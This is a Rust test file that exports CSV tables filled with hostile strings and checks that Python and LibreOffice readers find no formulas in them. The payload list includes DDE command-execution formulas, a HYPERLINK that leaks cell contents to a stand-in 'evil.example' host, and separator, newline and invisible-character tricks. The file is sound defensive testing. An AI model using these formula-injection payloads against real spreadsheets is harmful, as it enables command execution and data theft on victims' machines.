//! What programs that nobody here wrote make of a table full of hostile texts: none of its cells is a formula in any of them. `./x bless`
//! writes the tables, `./x oracles` asks the readers (`tests/oracles/csv_readers.py`), and this test reads what is committed.
#![allow(clippy::unwrap_used, reason = "a test may stop at the first surprise")]

use bellwether_matrix::{Cell, Column, ColumnKind, Matrix, Outcomes, Row, Separator, Status, Summary};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::PathBuf;

/// Texts that would be formulas, or would become cells with formulas behind a separator: addresses of pages, heads,
/// and words of outcomes.
const HOSTILE: [&str; 18] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example\";\"here\")",
    "https://a.example/a;=HYPERLINK('http:evil.example?'&A1);",
    "https://a.example/b,=1+1,+1",
    "https://a.example/c;@SUM(1+1)*cmd|'/Ccalc'!A0;",
    "https://a.example/d;\";\"=1+1",
    "https://a.example/e\n=1+1",
    "https://a.example/f\r\n=1+1",
    "\t=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "\"=1+1\"",
];

#[derive(PartialEq, Eq, Deserialize, Serialize)]
struct Tables {
    comma: String,
    semicolon: String,
}

/// What one reader finds in one table.
#[derive(Deserialize)]
struct Found {
    table: String,
    reader: String,
    cells: usize,
    formulas: Vec<String>,
    /// Formulas in a file that has some, which shows that the reader knows a formula.
    control: usize,
}

#[derive(Deserialize)]
struct Readers {
    tables: Tables,
    found: Vec<Found>,
}

fn path(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/oracles/expected").join(name)
}

fn tables() -> Tables {
    let column = |text: &&str| Column {
        id: (*text).to_owned(),
        label: (*text).to_owned(),
        kind: ColumnKind::Number,
        unit: Some((*text).to_owned()),
        severity: "low".to_owned(),
        effort: "small".to_owned(),
        owner: "developer".to_owned(),
        advice: None,
    };
    let columns: Vec<Column> = HOSTILE.iter().map(column).collect();
    let cell = || Cell { status: Status::Warn, value: Some(1.5), count: 1 };
    let cells: BTreeMap<String, Cell> = columns.iter().map(|column| (column.id.clone(), cell())).collect();
    let rows = HOSTILE.iter().map(|text| Row { url: (*text).to_owned(), score: Some(71.5), cells: cells.clone() }).collect();
    let heads = HOSTILE.iter().flat_map(|text| [*text; 3]).map(str::to_owned);
    let heads = ["Page", "Score"].map(str::to_owned).into_iter().chain(heads).collect();
    let outcome = |at: usize| HOSTILE.get(at).map_or_else(String::new, |text| (*text).to_owned());
    let outcomes =
        Outcomes { pass: outcome(0), warn: outcome(1), fail: outcome(2), not_applicable: outcome(3), not_measured: outcome(4) };
    let matrix =
        Matrix { columns, rows, summary: Summary { by_criterion: BTreeMap::new(), worst_pages: Vec::new() }, heads, outcomes };
    let file = |separator| String::from_utf8(matrix.to_csv(separator)).unwrap();
    Tables { comma: file(Separator::Comma), semicolon: file(Separator::Semicolon) }
}

#[test]
fn the_file_of_hostile_tables_is_up_to_date() {
    let (path, tables) = (path("hostile_tables.json"), tables());
    if std::env::var_os("BLESS").is_some() {
        std::fs::write(path, serde_json::to_string(&tables).unwrap() + "\n").unwrap();
        return;
    }
    let found: Tables = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    assert!(found == tables, "the tables have changed: run ./x bless, and then ./x oracles");
}

#[test]
fn no_reader_finds_a_formula() {
    let read = std::fs::read_to_string(path("csv_readers.json")).unwrap();
    let Readers { tables: asked, found } = serde_json::from_str(&read).unwrap();
    assert!(asked == tables(), "the readers were asked for other tables: run ./x oracles");
    let pairs: Vec<(&str, &str)> = found.iter().map(|found| (found.table.as_str(), found.reader.as_str())).collect();
    let readers = ["python ,", "python ;", "LibreOffice ,", "LibreOffice ;"];
    let wanted: Vec<(&str, &str)> = ["comma", "semicolon"].into_iter().flat_map(|table| readers.map(|it| (table, it))).collect();
    assert_eq!(pairs, wanted);
    for Found { table, reader, cells, formulas, control } in found {
        assert!(formulas.is_empty(), "{reader} finds formulas in the table with {table}: {formulas:?}");
        // With the other separator, most of the table is a cell for each row.
        let is_its_own = reader.ends_with(if table == "comma" { ',' } else { ';' });
        let least = if is_its_own { HOSTILE.len() * HOSTILE.len() } else { HOSTILE.len() };
        assert!(cells > least, "{reader} finds {cells} cells in the table with {table}");
        assert!(control > 0, "{reader} does not know a formula");
    }
}
